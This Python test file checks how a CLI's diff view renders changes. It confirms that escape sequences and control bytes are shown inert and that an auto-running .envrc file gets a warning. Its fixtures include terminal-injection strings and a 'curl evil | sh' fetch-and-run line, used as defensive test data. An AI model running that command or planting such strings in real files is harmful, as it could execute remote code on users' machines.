"""``specrun diff``'s rendering (coordinator/cli/changes_view.py), byte for byte on a colour
terminal: the head's bold under every line, each diff line's colour by what it is, odd
bytes escaped, the warnings after the diffs, one blank line before each file's diff."""

from __future__ import annotations

import io

from rich.console import Console

from coordinator.cli.changes_view import diff_text
from protocol.wire.control import DiffReply, FileChange, FileDiff

HOSTILE = "--- a\n+++ b\n@@ -1 +1 @@\n-echo ok\x01; \x1b[31mred\r\n+x\u202e\tz\n++++ three\n"
ENVRC = "--- /dev/null\n+++ b\n@@ -0,0 +1 @@\n+curl evil | sh\n"


def _shown(reply: DiffReply, terminal: bool) -> str:
    console = Console(file=io.StringIO(), width=60, force_terminal=terminal,
                      color_system="standard" if terminal else None)
    console.print(diff_text(reply), soft_wrap=True)
    out = console.file.getvalue()
    assert isinstance(out, str)
    return out


REPLY = DiffReply(1, 1, "w", "completed", files=(
    FileDiff(FileChange("a.txt", "modified"), diff=HOSTILE, added=2, removed=1),
    FileDiff(FileChange(".envrc", "created", runs_later=True), diff=ENVRC, added=1),
))


def test_a_diff_is_shown_whole_coloured_and_inert() -> None:
    bold = "\x1b[1m"
    assert _shown(REPLY, terminal=True).split("\n") == [
        f"{bold}What Tab would do with \x1b[0m\x1b[1;36m“w”\x1b[0m"
        f"{bold} (branch 2; completed: Tab applies this)\x1b[0m",
        "\x1b[1;33m  modified a.txt  +2 -1\x1b[0m",
        "\x1b[1;32m  created .envrc  +1 -0\x1b[0m",
        "",
        f"{bold}--- a\x1b[0m",
        f"{bold}+++ b\x1b[0m",
        "\x1b[1;36m@@ -1 +1 @@\x1b[0m",
        "\x1b[1;31m-echo ok\\x01; \\x1b[31mred\\r\x1b[0m",
        "\x1b[1;32m+x\\u202e\\tz\x1b[0m",
        "\x1b[1;32m++++ three\x1b[0m",
        "",
        f"{bold}--- /dev/null\x1b[0m",
        f"{bold}+++ b\x1b[0m",
        "\x1b[1;36m@@ -0,0 +1 @@\x1b[0m",
        "\x1b[1;32m+curl evil | sh\x1b[0m",
        "\x1b[1;33m  ⚠ runs later without a key press (check before you commit, build or"
        " open): .envrc\x1b[0m",
        "",
    ]


def test_without_a_terminal_the_same_lines_have_no_colour() -> None:
    plain = _shown(REPLY, terminal=False)
    assert "\x1b" not in plain
    assert plain.startswith("What Tab would do with “w” (branch 2; completed: Tab applies")
    assert "\n\n--- a\n+++ b\n@@ -1 +1 @@\n-echo ok\\x01; \\x1b[31mred\\r\n" in plain
    assert plain.endswith("+curl evil | sh\n  ⚠ runs later without a key press (check "
                          "before you commit, build or open): .envrc\n")


def test_a_refused_report_is_its_one_sentence() -> None:
    refused = DiffReply(1, 0, "x", "completed", refused="the report was refused\x07")
    assert _shown(refused, terminal=False) == (
        "What Tab would do with “x” (branch 1; completed: Tab applies this)\n"
        "  the report was refused\\x07\n")
